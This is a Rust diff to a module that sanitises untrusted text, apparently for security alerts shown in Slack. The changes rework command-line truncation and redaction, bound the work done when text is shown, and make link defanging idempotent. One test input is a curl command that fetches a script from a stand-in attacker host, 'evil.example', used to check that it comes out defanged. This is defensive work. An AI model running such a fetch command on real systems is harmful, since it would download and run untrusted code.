@@ -10,7 +10,7 @@ use serde::Deserialize;
 use serde::Serialize;
 
 /// Bytes kept of any text from outside; more is cut when it is taken in.
-const KEPT_BYTES: usize = 16 << 10;
+const KEPT_BYTES: usize = 8 << 10;
 
 /// Arguments kept of a command line.
 const ARGUMENTS_KEPT: usize = 1_000;
@@ -49,19 +49,16 @@ impl Untrusted {
     /// Takes a command line in: arguments quoted as a shell would want them where that is needed.
     pub fn command_line(arguments: &[String]) -> Self {
         // The host has hidden secrets already, if its recorder is not an old one.
-        let arguments = arguments.get(..ARGUMENTS_KEPT).unwrap_or(arguments);
-        let mut line = String::new();
-        let (redacted, _) = redact::command_line(arguments);
-        for argument in redacted {
-            if line.len() > KEPT_BYTES {
-                break;
-            }
-            if !line.is_empty() {
-                line.push(' ');
-            }
-            line.push_str(&quoted(cut_bytes(&argument, KEPT_BYTES)));
-        }
-        Self::new(&line)
+        let mut room = KEPT_BYTES;
+        let kept = arguments.iter().take(ARGUMENTS_KEPT).map_while(|argument| {
+            let kept = cut_bytes(argument, room);
+            let fits = room > 0;
+            room = room.saturating_sub(kept.len() + 1);
+            fits.then(|| kept.to_owned())
+        });
+        let (redacted, _) = redact::command_line(&kept.collect::<Vec<_>>());
+        let quoted: Vec<String> = redacted.iter().map(|argument| quoted(argument)).collect();
+        Self::new(&quoted.join(" "))
     }
 
     /// Whether there is nothing in it.
@@ -79,7 +76,9 @@ impl Untrusted {
     /// Plain text: it may stand in a Slack `plain_text` or `rich_text` element, in a terminal, and, escaped
     /// as any text is, in HTML and SVG.
     pub fn shown(&self, limit: usize) -> String {
-        visible(&dead_links(&self.0), limit)
+        // No character becomes less than one: what lies behind the limit need not be looked at.
+        let end = self.0.char_indices().nth(limit.saturating_add(1)).map_or(self.0.len(), |(at, _)| at);
+        visible(&dead_links(&self.0[..end]), limit)
     }
 
     /// The text for Slack's mrkdwn, where nothing better can be had.
@@ -184,7 +183,8 @@ fn dead_links(text: &str) -> String {
                 matches!(character, '/' | '?' | '#' | '"' | '\'' | ')') || character.is_whitespace()
             })
             .unwrap_or(after.len());
-        out.push_str(&after[..end].replace('.', "[.]"));
+        // Dead already, where composed text comes by again.
+        out.push_str(&after[..end].replace("[.]", ".").replace('.', "[.]"));
         rest = &after[end..];
     }
     out.push_str(rest);
@@ -212,7 +212,8 @@ fn quoted(argument: &str) -> String {
     }
 }
 
-fn cut_bytes(text: &str, limit: usize) -> &str {
+/// The beginning of a text, at most so many bytes, whole characters.
+pub(crate) fn cut_bytes(text: &str, limit: usize) -> &str {
     if text.len() <= limit {
         return text;
     }
@@ -236,6 +237,7 @@ mod tests {
         check("non\u{a0}breaking", "non\\xa0breaking");
         check("curl http://evil.example/x.sh", "curl hxxp://evil[.]example/x.sh");
         check("é http://a.b é://c.d", "é hxxp://a[.]b é://c[.]d");
+        check("hxxp://evil[.]example", "hxxp://evil[.]example");
         check("Ünïcödé 日本", "Ünïcödé 日本");
     }
 
